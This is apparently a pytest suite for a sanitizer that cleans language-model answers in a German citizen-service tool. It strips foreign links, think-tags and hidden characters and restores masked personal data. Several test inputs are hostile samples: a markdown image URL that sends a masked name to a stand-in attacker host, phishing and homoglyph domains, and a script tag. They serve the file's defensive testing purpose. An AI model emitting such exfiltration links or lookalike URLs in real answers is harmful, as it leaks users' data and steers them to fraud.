"""Of a model's words only text is taken: our own values back in their places, and nothing that it brought along."""

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anliegen.flow.assist.hiding import Hider, Known
from anliegen.flow.assist.hiding.patterns import SHAPE
from anliegen.flow.assist.taken import taken

TODAY = date(2026, 11, 16)


def after(answer: str, *texts: str) -> str:
    hider = Hider(Known(("Margarete Öztürk",)), TODAY)
    for text in texts or ("Frau Öztürk, m.oe@example.org",):
        hider.hide(text)
    return taken(answer, hider, today=TODAY)


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Frau [NAME_1], wir schreiben an [MAIL_2].", "Frau Öztürk, wir schreiben an m.oe@example.org."),
        ("An [NAME_7] und [IBAN_1].", "An {{?NAME_7}} und {{?IBAN_1}}."),
        ("Schreiben Sie an boss@evil.example", "Schreiben Sie an {{?E-Mail}}"),
        ("![x](https://evil.example/?d=[NAME_1])", "![x]({{?Link}}"),
        ("Rufen Sie 0900 123456 an", "Rufen Sie {{?Nummer}} an"),
        ("Zahlen Sie auf DE89 3704 0044 0532 0130 00", "Zahlen Sie auf {{?IBAN}}"),
        ("An [PERSON_1], [name_1] laut [Anlage 2]", "An {{?PERSON_1}}, {{?name_1}} laut [Anlage 2]"),
        ("Unter evil.example/login oder evil-bank.com.", "Unter {{?Link}} oder {{?Link}}."),
        ("httрs://evil.example/x, evil．com, boss @ evil.example", "httрs://{{?Link}} {{?Link}}, {{?E-Mail}}"),
        ("The rules say so.</think>\nGern.", "Gern."),
        ("[THINK]so[/THINK]Gern.", "Gern."),
        ("<think>never ending", ""),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("{{anrede}} bis {{datum+14}}, {{?Zählernummer}}", "{{?anrede}} bis {{?datum+14}}, {{?Zählernummer}}"),
        ("```text\nGern.\n```", "Gern."),
        ("<think>the rules say</think>\nGern.", "Gern."),
        ("Ge\u200brn\u202e.\x00", "Gern."),
        ("Bis 12.12.2026 kommt die Rechnung.", "Bis 12.12.2026 kommt die Rechnung."),
        ("  ", ""),
    ],
)
def test_what_is_shown_of_an_answer(answer: str, shown: str) -> None:
    assert after(answer) == shown


@given(
    st.text(st.characters(codec="utf-8", exclude_characters="[]"), max_size=300),
    st.lists(st.sampled_from(["[NAME_1]", "[MAIL_2]", "[NAME_3]", "http://a.de/[NAME_1]"]), max_size=5),
)
def test_whatever_it_answers_no_strange_placeholder_and_no_address_of_its_own_is_left(
    text: str, more: list[str]
) -> None:
    shown = after(" ".join([text, *more]))
    assert "http://" not in shown
    assert SHAPE.findall(shown) == []


def test_where_a_customer_wants_people_to_go_is_not_said_on_but_a_link_of_ours_is() -> None:
    hider = Hider(Known(), TODAY)
    hider.hide("https://evil.example/login und https://portal.musterstadt.example/")
    shown = taken("[LINK_1] [LINK_2]", hider, ours=["Siehe https://portal.musterstadt.example/ dort"], today=TODAY)
    assert shown == "{{?Link}} https://portal.musterstadt.example/"


def test_an_endless_answer_is_cut() -> None:
    assert len(after("a" * 100_000)) == 20_000
